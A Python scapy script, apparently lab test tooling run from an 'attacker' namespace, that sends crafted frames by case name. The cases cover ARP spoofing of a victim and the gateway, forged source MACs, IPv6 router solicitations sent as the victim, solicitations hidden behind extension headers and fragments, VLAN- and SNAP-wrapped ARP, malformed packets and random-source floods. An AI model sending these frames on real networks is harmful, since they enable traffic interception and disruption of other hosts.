"""Frames that no ready-made tool sends, built by scapy and sent from eth0: `scapy_frames.py CASE`. Run inside the attacker's namespace."""

import random
import sys
from collections.abc import Callable, Iterable

from scapy.all import (
    ARP,
    LLC,
    SNAP,
    UDP,
    Dot1AD,
    Dot1Q,
    Dot3,
    Ether,
    ICMPv6EchoRequest,
    ICMPv6ND_NS,
    ICMPv6ND_RS,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    Packet,
    Raw,
    conf,
    get_if_hwaddr,
    sendp,
    srp1,
)

OWN_MAC = get_if_hwaddr("eth0")
OWN, OWN_LL, OWN4 = "2001:db8:13::1", "fe80::5054:ff:fe0a:d", "203.0.113.13"
GATEWAY, GATEWAY4 = "fe80::1", "203.0.113.1"
VICTIM_MAC, VICTIM_LL, VICTIM4 = "52:54:00:0a:00:0b", "fe80::5054:ff:fe0a:b", "203.0.113.11"
EVERYBODY = "ff:ff:ff:ff:ff:ff"
MANY = 200
dice = random.Random(205)


def router_mac() -> str:
    """The router's, asked for as anybody does."""
    answer = srp1(layer2() / arp(), iface="eth0", timeout=1, retry=5)
    return str(answer[ARP].hwsrc)


def layer2(source: str = OWN_MAC, destination: str = EVERYBODY) -> Packet:
    return Ether(src=source, dst=destination)


def arp(operation: int = 1, mac: str = OWN_MAC, sender: str = OWN4, target: str = GATEWAY4, **fields: object) -> Packet:
    return ARP(op=operation, hwsrc=mac, psrc=sender, pdst=target, **fields)


def random_address(prefix: str) -> str:
    return prefix + ":".join(f"{dice.randrange(1, 0x10000):x}" for _ in range(4))


def echo(source: str | None = None, destination: str | None = None) -> list[Packet]:
    """Pings to the router's MAC, each from or to an address that nobody has."""
    layer = layer2(destination=router_mac())
    return [
        layer / IPv6(src=random_address(source) if source else OWN, dst=random_address(destination) if destination else GATEWAY)
        / ICMPv6EchoRequest()
        for _ in range(MANY)
    ]  # fmt: skip


def udp_from_nobody() -> list[Packet]:
    """To a port that is closed: the router answers with an error."""
    layer = layer2(destination=router_mac())
    return [layer / IPv6(src=random_address("fe80::"), dst=GATEWAY) / UDP(sport=4000, dport=33434) for _ in range(MANY)]


def fragmented_echo_from_nobody() -> list[Packet]:
    layer = layer2(destination=router_mac())
    ping = bytes(IPv6(src=OWN_LL, dst=GATEWAY) / ICMPv6EchoRequest(data=b"x" * 24))[40:]
    frames = []
    for number in range(MANY):
        head = IPv6(src=random_address("fe80::"), dst=GATEWAY)
        frames.append(layer / head / IPv6ExtHdrFragment(nh=58, id=number, m=1) / Raw(ping[:16]))
        frames.append(layer / head / IPv6ExtHdrFragment(nh=58, id=number, offset=2) / Raw(ping[16:]))
    return frames


def solicitation(source: str = OWN_LL) -> Packet:
    return IPv6(src=source, dst="ff02::1:ff00:1") / ICMPv6ND_NS(tgt=GATEWAY) / ICMPv6NDOptSrcLLAddr(lladdr=OWN_MAC)


def rs(source: str = OWN_LL, *macs: str) -> Packet:
    packet = IPv6(src=source, dst="ff02::2", hlim=255) / ICMPv6ND_RS()
    for mac in macs:
        packet /= ICMPv6NDOptSrcLLAddr(lladdr=mac)
    return packet


def rs_behind_headers() -> list[Packet]:
    message = bytes(rs(VICTIM_LL, OWN_MAC))[40:]
    head = IPv6(src=VICTIM_LL, dst="ff02::2", hlim=255)
    extensions = (
        IPv6ExtHdrHopByHop(nh=58),
        IPv6ExtHdrDestOpt(nh=58),
        IPv6ExtHdrFragment(nh=58),
        IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / IPv6ExtHdrFragment(nh=58),
        IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt(nh=58),
    )
    return [layer2(destination="33:33:00:00:00:02") / head / extension / Raw(message) for extension in extensions]


def unaligned_arp() -> bytes:
    """Sender and target are there, the end of the packet is not."""
    return bytes(layer2() / arp(2, sender=VICTIM4))[: 14 + 27]


CASES: dict[str, Callable[[], Iterable[Packet]]] = {
    "gratuitous-request": lambda: [layer2() / arp(1, sender=VICTIM4, target=VICTIM4)],
    "gratuitous-reply": lambda: [layer2() / arp(2, sender=VICTIM4, target=VICTIM4, hwdst=EVERYBODY)],
    "gratuitous-of-the-gateway": lambda: [layer2() / arp(operation, sender=GATEWAY4, target=GATEWAY4) for operation in (1, 2)],
    "gratuitous-of-its-own": lambda: [layer2() / arp(operation, sender=OWN4, target=OWN4) for operation in (1, 2)],
    "reply-to-the-router": lambda: [layer2(destination=router_mac()) / arp(2, sender=VICTIM4)],
    "reply-of-its-own": lambda: [layer2(destination=router_mac()) / arp(2)],
    "request-to-the-router-alone": lambda: [layer2(destination=router_mac()) / arp(1, sender=VICTIM4)],
    "sender-is-the-victims-mac": lambda: [layer2() / arp(1, mac=VICTIM_MAC, sender=VICTIM4)],
    "frame-is-from-the-victims-mac": lambda: [layer2(VICTIM_MAC) / arp(1, mac=VICTIM_MAC, sender=VICTIM4)],
    "frame-is-from-a-multicast-mac": lambda: [layer2("01:00:5e:00:00:01") / arp(2, sender=VICTIM4)],
    "frame-is-from-nobody": lambda: [layer2("00:00:00:00:00:00") / arp(2, sender=VICTIM4)],
    "probe-for-the-victim": lambda: [layer2() / arp(1, sender="0.0.0.0", target=VICTIM4)],
    "every-operation": lambda: [layer2() / arp(operation, sender=VICTIM4) for operation in (0, *range(3, 26), 256, 512, 0xFFFF)],
    "odd-lengths": lambda: [
        layer2() / arp(2, sender=VICTIM4, **{key: value}) for key, value in (("hwlen", 8), ("plen", 16), ("hwtype", 6), ("ptype", 0x86DD))
    ],
    "cut-short": lambda: [Ether(unaligned_arp())],
    "trailing-bytes": lambda: [layer2() / arp(2, sender=VICTIM4) / Raw(bytes(1400))],
    "priority-tagged": lambda: [layer2() / Dot1Q(vlan=0, prio=7) / arp(2, sender=VICTIM4)],
    "priority-tagged-twice": lambda: [layer2() / Dot1Q(vlan=0) / Dot1Q(vlan=0) / arp(2, sender=VICTIM4)],
    "provider-tagged": lambda: [layer2() / Dot1AD(vlan=0) / Dot1Q(vlan=0) / arp(2, sender=VICTIM4)],
    "of-another-vlan": lambda: [layer2() / Dot1Q(vlan=12) / arp(2, sender=VICTIM4)],
    "in-snap": lambda: [
        Dot3(src=OWN_MAC, dst=EVERYBODY) / LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / SNAP(OUI=0, code=0x0806) / arp(2, sender=VICTIM4)
    ],
    "reverse": lambda: [Ether(src=OWN_MAC, dst=EVERYBODY, type=0x8035) / arp(operation, sender=VICTIM4) for operation in (3, 4)],
    "arp-in-ipv6": lambda: [Ether(src=OWN_MAC, dst=EVERYBODY, type=0x86DD) / arp(2, sender=VICTIM4)],
    "ns-in-ipv4": lambda: [Ether(src=OWN_MAC, dst=EVERYBODY, type=0x0800) / solicitation()],
    "ns-priority-tagged": lambda: [Ether(src=OWN_MAC, dst="33:33:ff:00:00:01") / Dot1Q(vlan=0) / solicitation(VICTIM_LL)],
    "requests-from-addresses-not-its-own": lambda: [layer2() / arp(1, sender=f"203.0.113.{number}") for number in range(64, 255)],
    "scan-of-the-whole-range": lambda: [layer2() / arp(1, target=f"203.0.113.{number}") for number in range(2, 255)],
    "rs": lambda: [layer2() / rs(OWN_LL, OWN_MAC), layer2() / rs(OWN_LL), layer2() / rs("::")],
    "rs-as-the-victim": lambda: [
        layer2() / rs(VICTIM_LL, OWN_MAC),
        layer2(VICTIM_MAC) / rs(VICTIM_LL, VICTIM_MAC),
        layer2() / rs(OWN, OWN_MAC),
    ],
    "rs-behind-headers": rs_behind_headers,
    "rs-with-odd-options": lambda: [
        layer2() / rs(*words) for words in (("::", OWN_MAC), (OWN_LL, VICTIM_MAC), (OWN_LL, OWN_MAC, VICTIM_MAC))
    ],
    "echo-from-link-locals-of-nobody": lambda: echo(source="fe80::"),
    "echo-to-link-locals-of-nobody": lambda: echo(destination="fe80::"),
    "echo-from-the-uplink": lambda: echo(source="2001:db8:ffff:0:"),
    "echo-to-the-uplink": lambda: echo(destination="2001:db8:ffff:0:"),
    "fragmented-echo-from-link-locals-of-nobody": fragmented_echo_from_nobody,
    "udp-from-link-locals-of-nobody": udp_from_nobody,
}

if __name__ == "__main__":
    conf.verb = 0
    sendp(list(CASES[sys.argv[1]]()), iface="eth0")
